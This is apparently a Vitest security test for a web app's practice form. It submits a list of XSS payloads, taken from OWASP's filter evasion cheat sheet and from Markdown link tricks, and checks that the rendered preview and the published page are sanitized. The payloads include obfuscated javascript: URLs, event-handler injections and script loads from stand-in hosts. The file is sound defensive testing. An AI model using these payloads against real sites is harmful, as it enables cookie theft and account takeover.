import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { type Browser, demoBrowsers } from "./helpers/http";
import { startServer, type RunningServer } from "./helpers/server";

/**
 * XSS payloads from OWASP's XSS Filter Evasion Cheat Sheet and Markdown-specific ones, typed into
 * the practice form of the running server: through the preview, and saved, published and shown.
 * What the server renders from them may contain no script, no event handler attribute, no
 * javascript:/data: URL and no raw iframe, style, form or svg.
 */
const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<details open ontoggle=alert(1)>`,
  `<a href="jav&#x0D;ascript:alert(1)">x</a>`,
  `<a href="&#x6A;avascript:alert(1)">x</a>`,
  `<!-- --><script>alert(1)</script>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  // Markdown's own ways to make links and images
  `[klicka](javascript:alert(1))`,
  `[klicka](JaVaScRiPt:alert(1))`,
  `![bild](javascript:alert(1))`,
  `[klicka](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[a](<javascript:alert(1)>)`,
  `[ref]\n\n[ref]: javascript:alert(1)`,
  `<javascript:alert(1)>`,
  `[x](&#x6A;avascript:alert(1))`,
  `![x](https://example.org/a.png"onerror="alert(1))`,
  `[x](https://example.org "title\\" onmouseover=\\"alert(1)")`,
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
];

/** Numeric and a few named entities decoded, as a browser does inside attributes. */
function decodeEntities(html: string): string {
  return html
    .replace(/&#x0*([0-9a-f]+);?/gi, (_, hex) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#0*([0-9]+);?/g, (_, dec) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ":")
    .replace(/&tab;/gi, "\t")
    .replace(/&newline;/gi, "\n");
}

/** A tag's attributes as [name, value] pairs, read as a browser does (quoted values may hold anything). */
function attributes(tag: string): [string, string][] {
  const inner = tag.replace(/^<[a-z0-9]+/i, "").replace(/\/?>$/, "");
  return [...inner.matchAll(/([^\s"'>/=]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)].map(([, name, value = ""]) => [
    name.toLowerCase(),
    decodeEntities(value.replace(/^["']|["']$/g, "")),
  ]);
}

/** Problems in server-rendered HTML: every `<` in it starts a real tag, since text is escaped. */
function dangers(html: string): string[] {
  const found: string[] = [];
  if (/<\s*(script|iframe|style|form|svg|object|embed|meta|math|base|link)\b/i.test(html)) found.push("forbidden tag");
  for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) {
    for (const [name, value] of attributes(tag)) {
      if (name.startsWith("on")) found.push(`event handler in ${tag}`);
      if (name === "style") found.push(`style attribute in ${tag}`);
      // Browsers ignore whitespace and control characters inside a scheme.
      // eslint-disable-next-line no-control-regex
      const url = value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
      if (["href", "src", "action", "formaction", "data", "xlink:href", "srcset"].includes(name) && /^(javascript|data|vbscript):/.test(url)) {
        found.push(`dangerous URL in ${tag}`);
      }
    }
  }
  return found;
}

/** The part of a page that the server rendered from the record (the rest is the app's own). */
function between(html: string, start: RegExp, end: string): string {
  const at = html.search(start);
  expect(at, `no ${start} in page`).toBeGreaterThanOrEqual(0);
  return html.slice(at, html.indexOf(end, at) + end.length);
}

let server: RunningServer;
let contributor: Browser;
let editor: Browser;

beforeAll(async () => {
  server = await startServer();
  ({ contributor, editor } = await demoBrowsers(server, ["contributor", "editor"]));
}, 180_000);
afterAll(async () => {
  await server?.stop();
});

const fields = (payload: string, i: number) => ({
  title: `XSS ${i} ${payload}`.slice(0, 200),
  summary: payload.slice(0, 600),
  body: payload,
  problem: payload,
  solution: `Före ${payload} efter`,
  results: `- ${payload}`,
  resources: `> ${payload}`,
  transferability: payload,
  difficulties: payload,
  tags: "xss",
  themes: "data-och-sensorer",
  organisation: "olmeviks-hydraulik",
});

describe("XSS payloads through the practice form", () => {
  it("has at least 30 payloads, and the checker catches what it should", () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
    expect(dangers(`<p><script>x</script></p>`)).not.toEqual([]);
    expect(dangers(`<img src="x" onerror="y">`)).not.toEqual([]);
    expect(dangers(`<a href="jav&#x09;ascript:x">x</a>`)).not.toEqual([]);
    expect(dangers(`<a href="data:text/html,x">x</a>`)).not.toEqual([]);
    expect(dangers(`<a href=" JaVa&#x53;cript:x">x</a>`)).not.toEqual([]);
    expect(dangers(`<a title='x" onclick="y'>x</a>`)).toEqual([]);
    expect(dangers(`<p>&lt;script&gt; onerror= javascript: text is fine</p>`.replace("javascript:", "javascript"))).toEqual([]);
  });

  it("the preview renders every payload harmlessly", async () => {
    for (const [i, payload] of PAYLOADS.entries()) {
      const response = await contributor.post("/practices/new", { ...fields(payload, i), intent: "preview" });
      expect(response.status, payload).toBe(200);
      const preview = between(await response.text(), /<section class="preview"/, "</section>");
      expect(preview, "the preview shows the rendered fields").toContain("Före");
      expect(dangers(preview), payload).toEqual([]);
    }
  });

  it("saved, published and shown, every payload is harmless on the record's page", async () => {
    for (const [i, payload] of PAYLOADS.entries()) {
      const created = await contributor.post("/practices/new", { ...fields(payload, i), intent: "submit" });
      expect(created.status, payload).toBe(302);
      const slug = created.headers.get("Location")!.split("/")[2];
      const edit = await editor.get(`/practices/${slug}/edit`);
      const id = /\/records\/(\d+)\/workflow/.exec(await edit.text())![1];
      const published = await editor.post(`/records/${id}/workflow`, { intent: "publish", version: "2" });
      expect(published.status, payload).toBe(302);
      const page = await contributor.get(`/practices/${slug}`);
      expect(page.status, payload).toBe(200);
      const article = between(await page.text(), /<article>/, "</article>");
      expect(article, "the page shows the rendered fields").toContain("Före");
      expect(dangers(article), payload).toEqual([]);
    }
  }, 120_000);
});
